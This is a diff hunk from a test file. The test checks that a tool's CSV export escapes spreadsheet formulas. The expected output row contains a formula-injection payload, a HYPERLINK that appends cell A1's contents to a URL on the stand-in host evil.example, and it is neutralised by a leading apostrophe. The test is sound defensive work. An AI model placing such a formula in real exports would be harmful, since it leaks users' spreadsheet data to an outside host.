@@ -129,6 +129,6 @@ describe('clause-guide output: CSV a spreadsheet would run', () => {
     });
     const { stdout } = cli(['matrix', '--format', 'csv'], root);
     const row = stdout.split('\r\n')[1];
-    assert.equal(row, `SR-1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",operation,,,,,`);
+    assert.equal(row, `SR-1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",operation,,,,,,no result`);
   });
 });
